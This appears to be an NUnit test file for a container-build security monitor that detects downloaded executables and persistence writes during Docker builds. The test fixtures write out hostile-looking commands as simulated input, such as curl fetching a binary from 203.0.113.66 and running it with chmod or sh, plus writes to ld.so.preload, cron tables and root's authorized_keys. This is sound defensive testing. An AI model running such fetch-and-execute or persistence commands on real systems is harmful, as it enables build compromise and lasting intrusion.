using System.Text;
using ImageSentinel.Detection.Builds;
using ImageSentinel.Detection.Detectors;
using ImageSentinel.Detection.Events;
using ImageSentinel.Detection.Files;
using ImageSentinel.Detection.Model;
using NUnit.Framework;

namespace ImageSentinel.Tests.Detection;

[TestFixture]
public sealed class StepFileTests
{
    private const string Download = "curl -o /tmp/x http://203.0.113.66/x && chmod +x /tmp/x";
    private static readonly string Layer = Scene.StepId(70);

    // A step whose curl (pid 303) is about to reach out.
    private static Scene Step(string command = Download) => new Scene()
        .Client(200, "docker", "build", "-t", "example/app:1", "/ctx")
        .SnapshotDockerfile(1, $"FROM alpine:3\nRUN {command}\n")
        .BuildKitStep(1, 300, command, Layer);

    private static Scene Fetched() => Step()
        .Run(302, 303, "curl", "-o", "/tmp/x", "http://203.0.113.66/x")
        .Connect(303)
        .Writes(303, Layer, "tmp/x")
        .Looked(Layer, "tmp/x", FileKind.Elf);

    [Test]
    public void A_program_that_curl_left_is_told_with_both_ends()
    {
        Scene scene = Fetched().After(500);

        Finding finding = scene.Find("downloaded-executable")!;
        using (Assert.EnterMultipleScope())
        {
            Assert.That(finding.Severity, Is.EqualTo(Severity.High));
            Assert.That(finding.Confidence, Is.EqualTo(0.95));
            Assert.That(finding.Evidence[0].Egress!.Destination, Is.EqualTo(Scene.To(Scene.Evil)));
            Assert.That(finding.Evidence[1].File!.Path, Is.EqualTo("/tmp/x"));
            Assert.That(finding.Evidence[1].Process!.Pid, Is.EqualTo(303));
            Assert.That(finding.Message, Does.Contain("/tmp/x (ELF, 1000 bytes, sha256:").And.Contains("203.0.113.66:80/tcp"));
        }
    }

    [Test]
    public void Running_it_makes_it_critical_and_the_build_malicious()
    {
        Scene scene = Fetched().After(500).Run(302, 304, "/tmp/x").After(300);

        Assert.That(scene.Find("downloaded-executable")!.Severity, Is.EqualTo(Severity.Critical));
        Assert.That(scene.OnlyBuild.Steps.Single().Files.Told.Single().Executed, Is.True);
        Assert.That(scene.OnlyBuild.Verdict, Is.EqualTo(Verdict.Malicious));
    }

    [Test]
    public void Running_it_in_a_later_step_counts_too()
    {
        Scene scene = Fetched().Exit(303).EndBuildKitStep(300).After(300)
            .BuildKitStep(2, 400, "/tmp/x", Scene.StepId(71)).Run(402, 403, "/tmp/x").After(300);

        Assert.That(scene.Find("downloaded-executable")!.Severity, Is.EqualTo(Severity.Critical));
    }

    [Test]
    public void A_script_given_to_a_shell_was_run_and_an_output_file_of_curl_was_not()
    {
        Scene scene = Step("curl -o /s http://203.0.113.66/s; sh /s")
            .Run(302, 303, "curl", "-o", "/s", "http://203.0.113.66/s").Connect(303)
            .Writes(303, Layer, "s").Looked(Layer, "s", FileKind.Script).After(300);
        StepFile file = scene.OnlyBuild.Steps.Single().Files.Told.Single();
        Assert.That(file.Executed, Is.False);

        scene.Run(302, 304, "/bin/sh", "/s").After(300);

        Assert.That(file.Executed, Is.True);
    }

    [Test]
    public void A_program_without_egress_before_it_is_in_the_record_and_no_finding()
    {
        Scene scene = Step("make").Run(302, 303, "ld", "-o", "/app").Writes(303, Layer, "app").Looked(Layer, "app", FileKind.Elf)
            .Run(302, 304, "/app").After(500);

        Assert.That(scene.Find("downloaded-executable"), Is.Null);
        StepFile file = scene.OnlyBuild.Steps.Single().Files.Told.Single();
        Assert.That((file.Path, file.Executed, file.Kind), Is.EqualTo(("/app", true, FileKind.Elf)));
    }

    [Test]
    public void A_file_event_that_overtook_its_exec_record_still_names_the_program()
    {
        // Fork and file are in before the record of the exec that made the shell's child a curl.
        Scene scene = Step().Fork(302, 303).Writes(303, Layer, "tmp/x");
        scene.Core.On(new ProcessExecuted
        {
            At = scene.Now,
            CallWall = scene.Now.Wall - Stamp.Millisecond,
            Pid = 303,
            ParentPid = 302,
            Exe = "/usr/bin/curl"u8,
            Arguments = "curl\0-o\0/tmp/x\0"u8,
        });
        scene.Looked(Layer, "tmp/x", FileKind.Elf).After(500);

        Assert.That(scene.OnlyBuild.Steps.Single().Files.Told.Single().WrittenBy!.Arguments[0], Is.EqualTo("curl"));
    }

    [Test]
    public void What_the_runtime_prepares_in_the_layer_is_not_the_steps()
    {
        Scene scene = new Scene().Client(200, "docker", "build", "/ctx").SnapshotDockerfile(1, "FROM a\nRUN true\n");
        string bundle = $"/var/lib/docker/buildkit/executor/{Scene.StepId(1)}";
        scene.Fork(Scene.Daemon, 300)
            .Exec(300, Scene.Daemon, 0, "runc", "run", "--bundle", bundle, Scene.StepId(1))
            .Tell(new BundleFact(0, Scene.StepId(1), bundle, ["/bin/sh", "-c", "true"], "/", true, true, "", "", false, Layer))
            .Fork(300, 301).Writes(301, Layer, "etc/hosts").After(500);

        Assert.That(scene.OnlyBuild.Steps.Single().Files.Count, Is.Zero);
    }

    [Test]
    public void Files_before_the_layer_is_known_are_kept_for_the_step()
    {
        string bundle = $"/var/lib/docker/buildkit/executor/{Scene.StepId(1)}";
        Scene scene = new Scene().Client(200, "docker", "build", "/ctx").SnapshotDockerfile(1, "FROM a\nRUN true\n")
            .Writes(777, Layer, "early")
            .Fork(Scene.Daemon, 300)
            .Exec(300, Scene.Daemon, 0, "runc", "run", "--bundle", bundle, Scene.StepId(1))
            .Tell(new BundleFact(0, Scene.StepId(1), bundle, ["/bin/sh", "-c", "true"], "/", true, true, "", "", false, Layer))
            .Looked(Layer, "early", FileKind.Other).After(500);

        Assert.That(scene.OnlyBuild.Steps.Single().Files.Told.Single().Path, Is.EqualTo("/early"));
    }

    [Test]
    public void Twenty_thousand_files_are_counted_and_do_not_drown_the_story()
    {
        Scene scene = Step("npm install");
        for (int i = 0; i < 20_000; i++)
        {
            scene.Writes(302, Layer, $"node_modules/{i}");
        }

        scene.Writes(302, Layer, "etc/cron.d/late").After(500);

        StepFiles files = scene.OnlyBuild.Steps.Single().Files;
        using (Assert.EnterMultipleScope())
        {
            Assert.That(files.Count, Is.EqualTo(20_001));
            Assert.That(files.Told, Has.Count.LessThanOrEqualTo(StepFiles.MaximumTold));
            Assert.That(files.Told.Select(static f => f.Path), Does.Contain("/etc/cron.d/late"));
            Assert.That(files.NotListed, Is.EqualTo(20_001 - files.Told.Count));
            Assert.That(scene.Asked.OfType<LayerFileLookup>().Count(), Is.LessThanOrEqualTo(StepFiles.Ordinary + 1));
        }
    }

    [Test]
    public void Programs_behind_a_flood_of_files_are_told_when_they_follow_egress()
    {
        Scene scene = Step();
        for (int i = 0; i < 3000; i++)
        {
            scene.Writes(302, Layer, $"flood/{i}");
        }

        scene.Run(302, 303, "curl", "http://203.0.113.66/x").Connect(303).Writes(303, Layer, "tmp/x").Looked(Layer, "tmp/x", FileKind.Elf).After(500);

        Assert.That(scene.Find("downloaded-executable"), Is.Not.Null);
    }

    [TestCase("ld.so.preload", Severity.High)]
    [TestCase("cron.d/job", Severity.Medium)]
    [TestCase("profile.d/x.sh", Severity.None)]
    [TestCase("hostname", Severity.None)]
    public void What_runs_again_by_itself_weighs_by_what_it_is(string name, Severity severity)
    {
        Scene scene = Step("echo x > /etc/" + name).Writes(302, Layer, "etc/" + name).Looked(Layer, "etc/" + name, FileKind.Other).After(500);

        Assert.That(scene.Find("persistence-write")?.Severity ?? Severity.None, Is.EqualTo(severity));
    }

    [Test]
    public void A_package_that_brings_a_service_and_a_cron_table_wakes_nobody()
    {
        Scene scene = Step("apt-get install -y cron").Run(302, 303, "apt-get", "install").Run(303, 304, "dpkg", "--unpack")
            .Writes(304, Layer, "etc/cron.d/e2scrub").Writes(304, Layer, "lib/systemd/system/cron.service").After(500);

        Assert.That(scene.Find("persistence-write"), Is.Null);
        Assert.That(scene.OnlyBuild.Steps.Single().Files.Told, Has.Count.EqualTo(2));
    }

    [Test]
    public void Keys_and_a_cron_table_after_egress_are_high()
    {
        Scene scene = Step().Run(302, 303, "curl").Connect(303)
            .Writes(302, Layer, "root/.ssh/authorized_keys").Writes(302, Layer, "var/spool/cron/crontabs/root").After(500);

        Finding finding = scene.Find("persistence-write")!;
        Assert.That(finding.Severity, Is.EqualTo(Severity.High));
        Assert.That(finding.Evidence, Has.Count.EqualTo(2));
    }

    [Test]
    public void Names_of_any_bytes_are_kept_apart_and_never_shown_raw()
    {
        byte[][] names = ["a\nb"u8.ToArray(), "\x1b[2J"u8.ToArray(), [0xff, 0xfe], [.. Enumerable.Repeat((byte)'n', 4000)]];
        Scene scene = Step().Run(302, 303, "curl").Connect(303);
        foreach (byte[] name in names)
        {
            scene.Writes(303, Layer, name).Tell(new LayerFileFact(0, Layer, name, 5, 0x1ed, FileKind.Elf, Scene.Hex(1), ""));
        }

        scene.After(500);

        Finding finding = scene.Find("downloaded-executable")!;
        Assert.That(scene.OnlyBuild.Steps.Single().Files.Told, Has.Count.EqualTo(4));
        foreach (Evidence evidence in finding.Evidence)
        {
            Assert.That(evidence.Summary.Any(char.IsControl), Is.False, evidence.Summary);
            Assert.That(evidence.Summary, Has.Length.LessThan(1000));
        }
    }

    [Test]
    public void A_file_that_changed_or_vanished_says_so()
    {
        Scene scene = Step().Writes(302, Layer, "moving").Looked(Layer, "moving", FileKind.Elf, note: "changed while it was read").After(500);

        Assert.That(scene.OnlyBuild.Steps.Single().Files.Told.Single().Note, Is.EqualTo("changed while it was read"));
    }

    [Test]
    public void Another_containers_files_are_nobodys()
    {
        Scene scene = Step().Tell(new ProcessFact(900, 1, 5, 0, 0, 0, 0, "/usr/bin/postgres", ["postgres"], "/", ""))
            .Writes(900, Scene.Hex(9), "var/lib/data").After(6000);

        Assert.That(scene.OnlyBuild.Steps.Single().Files.Count, Is.Zero);
    }

    [TestCase("\x7f" + "ELF\x02", FileKind.Elf)]
    [TestCase("#!/bin/sh\n", FileKind.Script)]
    [TestCase("PK\x03\x04", FileKind.Archive)]
    [TestCase("hello", FileKind.Other)]
    [TestCase("", FileKind.Other)]
    public void Kind_is_told_by_content(string head, FileKind kind)
        => Assert.That(FileKinds.Of(Encoding.Latin1.GetBytes(head)), Is.EqualTo(kind));
}
